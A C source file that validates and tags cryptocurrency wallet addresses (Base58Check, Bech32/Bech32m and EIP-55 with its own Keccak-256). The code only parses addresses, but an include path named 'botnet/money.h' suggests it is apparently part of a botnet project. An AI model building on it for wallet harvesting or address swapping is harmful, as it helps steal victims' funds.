/* Addresses of coins, told from other random strings by their checksums: one string in 4 * 10^9 passes that is none. */
#include "base/hash.h"
#include "botnet/money.h"

/* ---- Base58Check: version, 20 bytes, four bytes of a double SHA-256 ---- */

enum { B58_BYTES = 25, B58_LEAST = 26, B58_MOST = 35, BECH_MOST = 90, BECH_LEAST = 14 };

static int base58_digit(uint8_t c)
{
    static const char digits[] = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    const char *at = c ? strchr(digits, c) : NULL;
    return at ? (int)(at - digits) : -1;
}

static bool base58_decode(struct span s, uint8_t out[B58_BYTES])
{
    memset(out, 0, B58_BYTES);
    for (size_t i = 0; i < s.n; i++) {
        int carry = base58_digit(s.p[i]);
        if (carry < 0)
            return false;
        for (size_t k = B58_BYTES; k > 0; k--) {
            carry += 58 * out[k - 1];
            out[k - 1] = (uint8_t)carry;
            carry >>= 8;
        }
        if (carry)
            return false;
    }
    /* A leading zero byte is written '1', one for one. */
    size_t ones = 0, zeros = 0;
    while (ones < s.n && s.p[ones] == '1')
        ones++;
    while (zeros < B58_BYTES && out[zeros] == 0)
        zeros++;
    return ones == zeros;
}

static const char *base58_coin(struct span s)
{
    static const struct { uint8_t version; const char *coin; } t[] = {
        {0x00, "btc:"}, {0x05, "btc:"}, {0x30, "ltc:"}, {0x32, "ltc:"}, {0x1e, "doge:"}, {0x16, "doge:"}, {0x4c, "dash:"}, {0x10, "dash:"},
        {0x41, "trx:"},
    };
    uint8_t raw[B58_BYTES], once[32], twice[32];
    if (s.n < B58_LEAST || s.n > B58_MOST || !base58_decode(s, raw))
        return NULL;
    sha256(span_of(raw, B58_BYTES - 4), once);
    sha256(span_of(once, sizeof once), twice);
    if (memcmp(twice, raw + B58_BYTES - 4, 4) != 0)
        return NULL;
    for (size_t i = 0; i < sizeof t / sizeof *t; i++)
        if (t[i].version == raw[0])
            return t[i].coin;
    return NULL;
}

/* ---- Bech32 (BIP 173) and Bech32m (BIP 350) ---- */

static uint32_t bech32_step(uint32_t sum, uint8_t value)
{
    static const uint32_t generator[] = {0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3};
    uint8_t top = (uint8_t)(sum >> 25);
    sum = (sum & 0x1ffffff) << 5 ^ value;
    for (int i = 0; i < 5; i++)
        sum ^= top >> i & 1 ? generator[i] : 0;
    return sum;
}

static const char *bech32_coin(struct span s)
{
    static const struct { const char *prefix, *coin; } t[] = {{"bc1", "btc:"}, {"ltc1", "ltc:"}};
    static const char digits[] = "qpzry9x8gf2tvdw0s3jn54khce6mua7l";
    bool low = false, up = false;
    if (s.n < BECH_LEAST || s.n > BECH_MOST)
        return NULL;
    for (size_t k = 0; k < sizeof t / sizeof *t; k++) {
        size_t hrp = strlen(t[k].prefix) - 1;
        uint32_t sum = 1, first = 0;
        if (!span_istarts(s, span_str(t[k].prefix)))
            continue;
        for (size_t i = 0; i < hrp; i++)
            sum = bech32_step(sum, ascii_lower(s.p[i]) >> 5);
        sum = bech32_step(sum, 0);
        for (size_t i = 0; i < hrp; i++)
            sum = bech32_step(sum, ascii_lower(s.p[i]) & 31);
        for (size_t i = hrp + 1; i < s.n; i++) {
            uint8_t c = ascii_lower(s.p[i]);
            const char *at = c ? strchr(digits, c) : NULL;
            if (!at)
                return NULL;
            first = i == hrp + 1 ? (uint32_t)(at - digits) : first;
            sum = bech32_step(sum, (uint8_t)(at - digits));
        }
        for (size_t i = 0; i < s.n; i++) {
            low |= s.p[i] >= 'a' && s.p[i] <= 'z';
            up |= s.p[i] >= 'A' && s.p[i] <= 'Z';
        }
        return !(low && up) && sum == (first ? 0x2bc830a3u : 1u) ? t[k].coin : NULL;
    }
    return NULL;
}

/* ---- Ethereum: EIP-55 writes the address's own Keccak-256 into the case of its letters ---- */

static uint64_t rotate(uint64_t x, unsigned n) { return n ? x << n | x >> (64 - n) : x; }

static void keccak_f(uint64_t s[25])
{
    static const uint64_t round_constant[24] = {
        0x0000000000000001, 0x0000000000008082, 0x800000000000808a, 0x8000000080008000, 0x000000000000808b, 0x0000000080000001,
        0x8000000080008081, 0x8000000000008009, 0x000000000000008a, 0x0000000000000088, 0x0000000080008009, 0x000000008000000a,
        0x000000008000808b, 0x800000000000008b, 0x8000000000008089, 0x8000000000008003, 0x8000000000008002, 0x8000000000000080,
        0x000000000000800a, 0x800000008000000a, 0x8000000080008081, 0x8000000000008080, 0x0000000080000001, 0x8000000080008008};
    for (int round = 0; round < 24; round++) {
        uint64_t c[5], b[25];
        for (int x = 0; x < 5; x++)
            c[x] = s[x] ^ s[x + 5] ^ s[x + 10] ^ s[x + 15] ^ s[x + 20];
        for (int i = 0; i < 25; i++)
            s[i] ^= c[(i + 4) % 5] ^ rotate(c[(i + 1) % 5], 1);
        unsigned x = 1, y = 0; /* rho and pi: along the path (x, y) -> (y, 2x + 3y) the t-th lane turns by (t + 1)(t + 2) / 2 */
        b[0] = s[0];
        for (unsigned t = 0; t < 24; t++) {
            unsigned next_x = y, next_y = (2 * x + 3 * y) % 5;
            b[next_x + 5 * next_y] = rotate(s[x + 5 * y], (t + 1) * (t + 2) / 2 % 64);
            x = next_x;
            y = next_y;
        }
        for (int i = 0; i < 25; i++)
            s[i] = b[i] ^ (~b[i / 5 * 5 + (i + 1) % 5] & b[i / 5 * 5 + (i + 2) % 5]);
        s[0] ^= round_constant[round];
    }
}

enum { KECCAK_RATE = 136, ETH_DIGITS = 40 };

/* Of less than one block, which is all that is asked. */
static void keccak256(struct span in, uint8_t out[32])
{
    uint64_t s[25] = {0};
    uint8_t block[KECCAK_RATE] = {0};
    memcpy(block, in.p, in.n);
    block[in.n] = 1;
    block[KECCAK_RATE - 1] |= 0x80;
    for (size_t i = 0; i < KECCAK_RATE; i++)
        s[i / 8] ^= (uint64_t)block[i] << (8 * (i % 8));
    keccak_f(s);
    for (size_t i = 0; i < 32; i++)
        out[i] = (uint8_t)(s[i / 8] >> (8 * (i % 8)));
}

static bool is_ethereum(struct span s)
{
    uint8_t low[ETH_DIGITS], hash[32];
    bool has_low = false, has_up = false;
    if (s.n != ETH_DIGITS + 2 || s.p[0] != '0' || s.p[1] != 'x')
        return false;
    for (size_t i = 0; i < ETH_DIGITS; i++) {
        uint8_t c = s.p[i + 2];
        low[i] = ascii_lower(c);
        if (!ascii_is_digit(c) && !(low[i] >= 'a' && low[i] <= 'f'))
            return false;
        has_low |= c >= 'a' && c <= 'f';
        has_up |= c >= 'A' && c <= 'F';
    }
    if (!has_low || !has_up)
        return has_low || has_up; /* no checksum, but 40 hexadecimal digits after 0x are hardly anything else */
    keccak256(span_of(low, ETH_DIGITS), hash);
    for (size_t i = 0; i < ETH_DIGITS; i++) {
        bool up = (hash[i / 2] >> (i % 2 ? 0 : 4) & 15) >= 8;
        if (ascii_is_alpha(low[i]) && (s.p[i + 2] != low[i]) != up)
            return false;
    }
    return true;
}

struct span wallet_read(struct arena *a, struct span token)
{
    const char *coin = NULL;
    bool fold = true;
    if (is_ethereum(token))
        coin = "eth:";
    else if ((coin = bech32_coin(token)) == NULL && (coin = base58_coin(token)) != NULL)
        fold = false; /* case counts */
    if (!coin)
        return SPAN_NONE;
    size_t n = strlen(coin);
    uint8_t *p = arena_alloc(a, n + token.n);
    if (!p)
        return SPAN_NONE;
    memcpy(p, coin, n);
    for (size_t i = 0; i < token.n; i++)
        p[n + i] = fold ? ascii_lower(token.p[i]) : token.p[i];
    return span_of(p, n + token.n);
}
